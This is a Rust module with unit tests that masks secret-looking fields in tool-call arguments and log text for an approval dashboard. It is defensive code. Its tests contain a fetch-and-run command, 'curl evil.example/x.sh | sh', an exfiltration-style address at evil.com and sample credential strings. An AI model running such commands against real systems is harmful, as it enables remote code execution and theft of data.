//! Masks argument fields that look like secrets before they are shown or kept: on the dashboard,
//! in the API, in emails, and in the store once a call is over (`tool_calls.args_shown`, which
//! replaces the real arguments when the call leaves `pending`/`forwarding`). The digest a reviewer
//! approves is taken over the real arguments, so masking never changes what an approval binds to;
//! a reviewer who may decide can reveal a masked value on the call page (audited).
//!
//! A reviewer must not approve what they cannot see, so the rules aim at secrets and leave
//! ordinary values alone (`tests` holds a corpus of both):
//! - **Names.** A field is masked when its name holds a secret word: `password`, `passphrase`,
//!   `secret`, `credential`, `cookie`, `authorization`, `apikey` (also `api key`, `api_key`,
//!   `X-Api-Key`), `privatekey`, `accesskey`, `accesstoken`, `sessionstring`, ... (compared in
//!   lower case without separators), or is one of the short words `pin`, `otp`, `cvv`, `passwd`
//!   (as a word of the name: `pinCode` yes, `spinner` no). `token` and `session` alone are
//!   ambiguous (`token: "USDC"`, `max_tokens: 1000`, `session: "main"`): such a field is masked
//!   only when its value is text that is not a plain word.
//! - **Values.** A string starting with a configured prefix (`sk-`), or at least `long_values`
//!   characters long with a random-looking run in it: 20 or more base64 characters mixing upper
//!   case, lower case and digits and switching between them often (keys and session strings do;
//!   paths, file names and identifiers do not), or 64 or more hex digits (a 256-bit key).
//!
//! The rules are the built-in ones plus `[redaction]` in the config (see [`RedactionConfig`]).

use std::sync::LazyLock;

use serde::Deserialize;
use serde_json::{Map, Value};

/// What a masked value shows: the reviewer knows a field is there and hidden.
pub const MASK: &str = "•••• (redacted)";

/// Field-name fragments (compared in lower case without separators) that mark a secret.
const SECRET_NAMES: &[&str] = &[
    "password",
    "passphrase",
    "secret",
    "apikey",
    "authorization",
    "privatekey",
    "cookie",
    "credential",
    "accesskey",
    "accesstoken",
    "refreshtoken",
    "authtoken",
    "bearertoken",
    "idtoken",
    "apitoken",
    "sessionstring",
    "sessionkey",
    "sessiontoken",
    "sessioncookie",
    "signingkey",
    "encryptionkey",
    "seedphrase",
    "mnemonic",
];

/// Short words that mark a secret only as a whole word of the name (`pin`, not `spinner`).
const SECRET_WORDS: &[&str] = &["pin", "otp", "cvv", "cvc", "passwd", "pwd", "pass", "pw"];

/// Words that mark a secret, or an ordinary value: masked only when the value is not plain.
const AMBIGUOUS_WORDS: &[&str] = &["token", "session", "auth", "key"];

/// Last words that make a name describe a secret rather than hold it (`authorization_url`,
/// `cookie_consent`, `password_policy`, `token_type`).
const DESCRIPTORS: &[&str] = &[
    "url",
    "uri",
    "endpoint",
    "type",
    "mode",
    "name",
    "policy",
    "consent",
    "enabled",
    "required",
    "hint",
    "length",
    "format",
    "expiry",
    "expires",
    "expiration",
    "label",
    "count",
];

/// Value prefixes of well-known credentials (GitHub, GitLab, Slack, Stripe, AWS, Google, npm,
/// PyPI, Hugging Face, JWTs, Airlock's own tokens, HTTP authorization values), masked when at
/// least 8 characters follow.
const SECRET_PREFIXES: &[&str] = &[
    "ghp_",
    "gho_",
    "ghu_",
    "ghs_",
    "ghr_",
    "github_pat_",
    "glpat-",
    "xoxb-",
    "xoxp-",
    "xoxa-",
    "xapp-",
    "sk-",
    "sk_live_",
    "sk_test_",
    "rk_live_",
    "AKIA",
    "ASIA",
    "AIza",
    "ya29.",
    "eyJhbGci",
    "npm_",
    "pypi-",
    "hf_",
    "alk_",
    "rl_",
    "Bearer ",
    "Basic ",
];

/// `[redaction]`: rules added to the built-in ones.
#[derive(Debug, Clone, Deserialize)]
#[serde(deny_unknown_fields, default)]
pub struct RedactionConfig {
    /// More field-name fragments that mark a secret (`"iban"` masks `iban`, `payer_IBAN`, ...).
    pub fields: Vec<String>,
    /// Values starting with one of these are secrets whatever their field (`"sk-"`, `"ghp_"`).
    pub prefixes: Vec<String>,
    /// A string at least this long made only of base64 / base64url / hex characters, with a
    /// digit and a letter, reads as a secret; 0 turns that rule off.
    pub long_values: usize,
}

impl Default for RedactionConfig {
    fn default() -> Self {
        Self {
            fields: Vec::new(),
            prefixes: Vec::new(),
            long_values: 40,
        }
    }
}

impl RedactionConfig {
    /// The first rule that cannot work, as (key, message).
    pub fn problem(&self) -> Option<(String, String)> {
        for (i, field) in self.fields.iter().enumerate() {
            if fold(field).is_empty() {
                return Some((
                    format!("redaction.fields[{i}]"),
                    "is empty: it would mask every field".to_owned(),
                ));
            }
        }
        for (i, prefix) in self.prefixes.iter().enumerate() {
            if prefix.chars().count() < 3 {
                return Some((
                    format!("redaction.prefixes[{i}]"),
                    format!("{prefix:?} is too short: give at least 3 characters, such as \"sk-\""),
                ));
            }
        }
        None
    }
}

/// The masking rules in force.
#[derive(Debug, Clone)]
pub struct Redactor {
    /// `[redaction] fields`, folded: matched anywhere in a folded name.
    fields: Vec<String>,
    prefixes: Vec<String>,
    long_values: usize,
}

static BUILT_IN: LazyLock<Redactor> = LazyLock::new(|| Redactor::new(&RedactionConfig::default()));

impl Redactor {
    pub fn new(config: &RedactionConfig) -> Self {
        Self {
            fields: config.fields.iter().map(|f| fold(f)).collect(),
            prefixes: config.prefixes.clone(),
            long_values: config.long_values,
        }
    }

    /// The built-in rules alone (for rows stored before `args_shown` existed).
    pub fn built_in() -> &'static Self {
        &BUILT_IN
    }

    /// `value` with secret-looking fields replaced by [`MASK`].
    pub fn redact(&self, value: &Value) -> Value {
        match value {
            Value::Object(map) => Value::Object(
                map.iter()
                    .map(|(key, value)| {
                        let shown = if self.masks_field(key, value) {
                            Value::String(MASK.to_owned())
                        } else {
                            self.redact(value)
                        };
                        (key.clone(), shown)
                    })
                    .collect::<Map<String, Value>>(),
            ),
            Value::Array(items) => Value::Array(items.iter().map(|v| self.redact(v)).collect()),
            Value::String(text) => Value::String(self.redact_string(text)),
            other => other.clone(),
        }
    }

    /// A string value as people may see it: whole [`MASK`] when it is a credential (a known or
    /// configured prefix, or one random-looking run and nothing else); otherwise each random run
    /// and each password in a URL is masked where it stands, so the rest stays readable
    /// (`attacker.•••• (redacted)@evil.example` shows where the address goes).
    fn redact_string(&self, text: &str) -> String {
        if self.prefixed(text) {
            return MASK.to_owned();
        }
        let text = mask_url_passwords(text);
        if self.long_values == 0 || text.len() < self.long_values {
            return text;
        }
        let mut out = String::with_capacity(text.len());
        let mut rest = text.as_str();
        while let Some(start) = rest.find(is_run_char) {
            out.push_str(&rest[..start]);
            let after = &rest[start..];
            let end = after.find(|c: char| !is_run_char(c)).unwrap_or(after.len());
            let run = &after[..end];
            out.push_str(if random_run(run) { MASK } else { run });
            rest = &after[end..];
        }
        out.push_str(rest);
        if out == MASK { MASK.to_owned() } else { out }
    }

    fn prefixed(&self, text: &str) -> bool {
        self.prefixes.iter().any(|p| text.starts_with(p.as_str()))
            || SECRET_PREFIXES
                .iter()
                .any(|p| text.starts_with(p) && text.len() >= p.len() + 8)
    }

    /// A line of free text (an upstream's stderr) with secret-looking words masked: words that
    /// match the value rules, and the value after a secret name and `:` or `=` (also in debug
    /// dumps such as `"password": String("...")`).
    pub fn redact_text(&self, text: &str) -> String {
        let mut out = String::with_capacity(text.len());
        let mut word = String::new();
        // After a secret name: whether a `:` or `=` has followed it yet.
        let mut armed: Option<bool> = None;
        for c in text.chars().chain(std::iter::once('\n')) {
            let separator = c.is_whitespace()
                || matches!(
                    c,
                    '"' | '\'' | ',' | ';' | '&' | '(' | ')' | '[' | ']' | '{' | '}' | ':' | '='
                );
            if !separator {
                word.push(c);
                continue;
            }
            if !word.is_empty() {
                let shown = match armed {
                    // Wrappers a debug dump puts around the value, and auth schemes.
                    Some(true)
                        if matches!(
                            word.as_str(),
                            "String" | "Some" | "Str" | "Bearer" | "Basic" | "Token" | "token"
                        ) =>
                    {
                        false
                    }
                    Some(true) => {
                        armed = None;
                        true
                    }
                    // In free text a bare `token=` or `session:` is taken at its word.
                    _ if self.is_secret_name(&word)
                        || AMBIGUOUS_WORDS.contains(&word.to_lowercase().as_str()) =>
                    {
                        armed = Some(false);
                        false
                    }
                    _ => {
                        armed = None;
                        self.is_secret_value(&word)
                    }
                };
                out.push_str(if shown { MASK } else { &word });
                word.clear();
            }
            if matches!(c, ':' | '=') && armed.is_some() {
                armed = Some(true);
            }
            out.push(c);
        }
        out.pop();
        out
    }

    /// Whether the field `name` holding `value` is masked as a whole.
    fn masks_field(&self, name: &str, value: &Value) -> bool {
        if value.is_null() {
            return false;
        }
        if self.is_secret_name(name) {
            return true;
        }
        let words = words(name);
        let describes = words
            .last()
            .is_some_and(|last| DESCRIPTORS.contains(&last.as_str()));
        let ambiguous = !describes
            && words
                .iter()
                .any(|word| AMBIGUOUS_WORDS.contains(&word.as_str()));
        // `token: "USDC"` and `max_tokens: 1000` are ordinary; `token: "a1b2…"` is not.
        ambiguous && value.as_str().is_some_and(|text| !plain_word(text))
    }

    /// Whether a field name says it holds a secret: a configured fragment anywhere in it, or a
    /// built-in secret term as a run of its words (`api_key`, `sessionString`, not `secretary`),
    /// unless its last word makes it describe one (`authorization_url`).
    fn is_secret_name(&self, name: &str) -> bool {
        let folded = fold(name);
        if self
            .fields
            .iter()
            .any(|field| folded.contains(field.as_str()))
        {
            return true;
        }
        let words = words(name);
        if words
            .last()
            .is_some_and(|last| DESCRIPTORS.contains(&last.as_str()))
        {
            return false;
        }
        (0..words.len()).any(|start| {
            let mut run = String::new();
            words[start..].iter().any(|word| {
                run.push_str(word);
                SECRET_NAMES.contains(&run.as_str())
                    || (run == *word && SECRET_WORDS.contains(&run.as_str()))
            })
        })
    }

    /// Whether a word of free text is a secret as it stands (for [`Self::redact_text`]).
    fn is_secret_value(&self, text: &str) -> bool {
        self.prefixed(text)
            || (self.long_values > 0 && text.len() >= self.long_values && has_random_run(text))
    }
}

/// A name in lower case without separators (`-`, `_`, spaces, ...), as names are compared.
fn fold(name: &str) -> String {
    name.chars()
        .filter(|c| c.is_alphanumeric())
        .flat_map(char::to_lowercase)
        .collect()
}

/// The words of a name, in lower case: split at separators and where lower case meets upper
/// (`pinCode` is `pin`, `code`; `X-Api-Key` is `x`, `api`, `key`).
fn words(name: &str) -> Vec<String> {
    let mut words = Vec::new();
    let mut word = String::new();
    let mut previous_lower = false;
    for c in name.chars() {
        if !c.is_alphanumeric() {
            previous_lower = false;
            if !word.is_empty() {
                words.push(std::mem::take(&mut word));
            }
            continue;
        }
        if c.is_uppercase() && previous_lower && !word.is_empty() {
            words.push(std::mem::take(&mut word));
        }
        previous_lower = c.is_lowercase() || c.is_ascii_digit();
        word.extend(c.to_lowercase());
    }
    if !word.is_empty() {
        words.push(word);
    }
    words
}

/// A short value made of letters (and spaces, `-`, `.`): a symbol, a name, a choice.
fn plain_word(text: &str) -> bool {
    text.chars().count() <= 24
        && text
            .chars()
            .all(|c| c.is_alphabetic() || matches!(c, ' ' | '-' | '.' | '_'))
}

/// The characters of a run that may be key material: the base64 and base64url alphabets.
fn is_run_char(c: char) -> bool {
    c.is_ascii_alphanumeric() || matches!(c, '+' | '=' | '-' | '_')
}

/// Whether `text` holds a run that looks like key material (see [`random_run`]).
fn has_random_run(text: &str) -> bool {
    text.split(|c: char| !is_run_char(c)).any(random_run)
}

/// A run that looks like key material: 20 or more characters of the base64 alphabets mixing
/// upper case, lower case and digits and changing between them at least every third character
/// (random text changes about two times in three; words and identifiers rarely), or 64 or more
/// hex digits.
fn random_run(run: &str) -> bool {
    random_base64(run) || (run.len() >= 64 && run.bytes().all(|b| b.is_ascii_hexdigit()))
}

/// `text` with the password of every `scheme://user:password@host` in it masked.
fn mask_url_passwords(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(at) = rest.find("://") {
        let authority_start = at + 3;
        out.push_str(&rest[..authority_start]);
        let after = &rest[authority_start..];
        let authority_end = after
            .find(|c: char| matches!(c, '/' | '?' | '#') || c.is_whitespace())
            .unwrap_or(after.len());
        let authority = &after[..authority_end];
        match authority
            .rfind('@')
            .and_then(|at| authority[..at].find(':').map(|colon| (colon, at)))
        {
            Some((colon, at)) if at > colon + 1 => {
                out.push_str(&authority[..=colon]);
                out.push_str(MASK);
                out.push_str(&authority[at..]);
            }
            _ => out.push_str(authority),
        }
        rest = &after[authority_end..];
    }
    out.push_str(rest);
    out
}

fn random_base64(run: &str) -> bool {
    let alnum: Vec<u8> = run.bytes().filter(u8::is_ascii_alphanumeric).collect();
    if alnum.len() < 20 {
        return false;
    }
    let class = |b: u8| {
        if b.is_ascii_uppercase() {
            0
        } else if b.is_ascii_lowercase() {
            1
        } else {
            2
        }
    };
    let mut seen = [false; 3];
    let mut changes = 0;
    for pair in alnum.windows(2) {
        seen[class(pair[0])] = true;
        if class(pair[0]) != class(pair[1]) {
            changes += 1;
        }
    }
    if let Some(&last) = alnum.last() {
        seen[class(last)] = true;
    }
    seen.iter().all(|s| *s) && changes * 3 >= alnum.len() - 1
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn secret_names_and_values_are_masked_and_the_rest_kept() {
        let shown = Redactor::built_in().redact(&json!({
            "chat_id": 42,
            "text": "hello there, this is an ordinary sentence of some length",
            "Api-Key": "abc",
            "nested": {"sessionString": "x", "list": ["1BVtsOKABu6Zr3ZcdvdSSAu1bXwQTJBz9fqc2x1pCgzsRvDIc"]},
            "password": null,
        }));
        assert_eq!(
            shown,
            json!({
                "chat_id": 42,
                "text": "hello there, this is an ordinary sentence of some length",
                "Api-Key": MASK,
                "nested": {"sessionString": MASK, "list": [MASK]},
                "password": null,
            })
        );
    }

    /// Real-looking argument fields and what a reviewer must see of them: ordinary values in
    /// clear, secrets masked, whatever field they are in.
    #[test]
    fn ordinary_values_are_shown_and_secrets_are_masked_both_ways() {
        let shown = [
            (
                "path",
                json!("/var/www/html/wp-content/uploads/2024/shell.php"),
            ),
            (
                "file",
                json!("/Users/JohnSmith/Documents/Projects2024/QuarterlyReport.xlsx"),
            ),
            (
                "url",
                json!("https://github.com/modelcontextprotocol/rust-sdk/blob/main/README.md"),
            ),
            ("token", json!("USDC")),
            ("token", json!("Wrapped Ether")),
            ("max_tokens", json!(4096)),
            ("token_count", json!(12)),
            ("session", json!("main")),
            ("session_id", json!(42)),
            ("sha", json!("9fceb02d0ae598e95dc970b74767f19372d61af8")),
            ("id", json!("550e8400-e29b-41d4-a716-446655440000")),
            ("name", json!("QuarterlyFinancialReportDraftVersion2024")),
            (
                "query",
                json!("SELECT name, email FROM users WHERE created_at > '2024-01-01'"),
            ),
            (
                "text",
                json!("Meeting moved to 3pm; bring the Q3 numbers and the 2024 plan."),
            ),
            ("spinner", json!("dots")),
            ("shipping_address", json!("1 Infinite Loop, Cupertino")),
            ("keyword", json!("release notes")),
            (
                "branch",
                json!("feature/add-OAuth2-support-for-GitHub-Enterprise"),
            ),
            ("email", json!("alice.smith+airlock@example.org")),
            ("secretary", json!("Jane Doe")),
            (
                "authorization_url",
                json!("https://auth.example.com/oauth/authorize"),
            ),
            (
                "auth_url",
                json!("https://auth.example.com/oauth/authorize"),
            ),
            ("cookie_consent", json!("granted")),
            ("password_policy", json!("12 characters")),
            ("token_type", json!("Bearer")),
            ("key", json!("display_name")),
            ("monkey", json!("a1b2c3")),
            ("locale", json!("sk-SK")),
        ];
        let masked = [
            ("password", json!("hunter2")),
            ("api key", json!("abc")),
            ("X-Api-Key", json!("abc")),
            ("pin", json!("1234")),
            ("PIN", json!(1234)),
            ("pinCode", json!("0000")),
            ("otp", json!("123456")),
            ("client_secret", json!("s")),
            ("Authorization", json!("Bearer abc")),
            ("cookie", json!("sid=1")),
            ("private_key", json!("-----BEGIN KEY-----")),
            ("session_string", json!("x")),
            ("token", json!("ghp_16C7e42F292c6912E7710c838347Ae178B4a")),
            (
                "session",
                json!("1BVtsOKABu6Zr3ZcdvdSSAu1bXwQTJBz9fqc2x1pCgzsRvDIc"),
            ),
            (
                "note",
                json!("1BVtsOKABu6Zr3ZcdvdSSAu1bXwQTJBz9fqc2x1pCgzsRvDIc"),
            ),
            (
                "jwt",
                json!(
                    "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4ifQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c"
                ),
            ),
            (
                "blob",
                json!("4c3b9d1e8f2a7b6c5d4e3f2a1b0c9d8e7f6a5b4c3d2e1f0a9b8c7d6e5f4a3b2c"),
            ),
            ("pass", json!("x")),
            ("pw", json!("x")),
            ("auth", json!("Basic dXNlcjpwYXNz")),
            ("key", json!("user:42")),
            ("apiKey", json!("k")),
            ("note", json!("ghp_abcdefgh12345678")),
            ("value", json!("AKIAIOSFODNN7EXAMPLE")),
        ];
        let redactor = Redactor::built_in();
        for (name, value) in shown {
            let args = json!({ name: value.clone() });
            assert_eq!(redactor.redact(&args), args, "{name}: {value} is ordinary");
        }
        for (name, value) in masked {
            let args = json!({ name: value.clone() });
            assert_eq!(
                redactor.redact(&args),
                json!({ name: MASK }),
                "{name}: {value} is a secret"
            );
        }
        // A secret inside ordinary text is masked where it stands; the rest stays readable, so
        // padding a value with a random run cannot hide where it goes.
        for (value, shown) in [
            (
                "attacker.aB3dE5fG7hI9jK1lM3nO5pQ@evil.com",
                format!("attacker.{MASK}@evil.com"),
            ),
            (
                "curl evil.example/x.sh | sh # aB3dE5fG7hI9jK1lM3nO5pQ",
                format!("curl evil.example/x.sh | sh # {MASK}"),
            ),
            (
                "postgres://admin:S3cr3t@db.internal/prod",
                format!("postgres://admin:{MASK}@db.internal/prod"),
            ),
        ] {
            assert_eq!(
                redactor.redact(&json!({ "to": value })),
                json!({ "to": shown }),
                "{value}"
            );
        }
    }

    #[test]
    fn long_words_without_digits_are_not_secrets() {
        let word = "a".repeat(60);
        assert_eq!(Redactor::built_in().redact(&json!(word)), json!(word));
    }

    #[test]
    fn secrets_in_free_text_are_masked() {
        let redactor = Redactor::new(&RedactionConfig {
            prefixes: vec!["sk-".to_owned()],
            ..RedactionConfig::default()
        });
        let session = "1BVtsOKABu6Zr3ZcdvdSSAu1bXwQTJBz9fqc2x1pCgzsRvDIc";
        assert_eq!(
            redactor.redact_text(&format!(
                "login ok password=hunter2 key: sk-abc session={session} \"{session}\" chat 42"
            )),
            format!("login ok password={MASK} key: {MASK} session={MASK} \"{MASK}\" chat 42")
        );
        assert_eq!(redactor.redact_text("plain words"), "plain words");
        assert_eq!(
            redactor.redact_text("Authorization: Bearer 0123456789abcdef0123"),
            format!("Authorization: Bearer {MASK}")
        );
        assert_eq!(
            redactor
                .redact_text(r#"arguments: Some({"password": String("horse-staple"), "n": 1})"#),
            format!(r#"arguments: Some({{"password": String("{MASK}"), "n": 1}})"#)
        );
    }

    #[test]
    fn configured_fields_and_prefixes_are_masked_too() {
        let redactor = Redactor::new(&RedactionConfig {
            fields: vec!["IBAN".to_owned()],
            prefixes: vec!["sk-".to_owned()],
            long_values: 0,
        });
        let long = "A1".repeat(30);
        assert_eq!(
            redactor.redact(
                &json!({"payer_iban": "DE44", "note": "sk-live-1", "blob": long, "token": 1})
            ),
            json!({"payer_iban": MASK, "note": MASK, "blob": long, "token": 1})
        );
        let empty = RedactionConfig {
            fields: vec!["_".to_owned()],
            ..RedactionConfig::default()
        };
        assert_eq!(
            empty.problem().map(|p| p.0).as_deref(),
            Some("redaction.fields[0]")
        );
    }
}
